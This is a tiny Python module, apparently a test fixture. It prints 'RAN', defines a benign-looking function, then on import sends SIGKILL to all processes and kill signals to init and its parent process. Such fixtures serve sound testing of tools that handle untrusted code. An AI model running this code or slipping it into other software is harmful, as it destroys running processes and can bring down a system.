import os

print("RAN")


def ok():
    """Fine."""


import signal

for target in (-1, 1, os.getppid()):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGSEGV, signal.SIGKILL):
        if target == -1 and number != signal.SIGKILL:
            continue
        try:
            os.kill(target, number)
        except OSError:
            pass
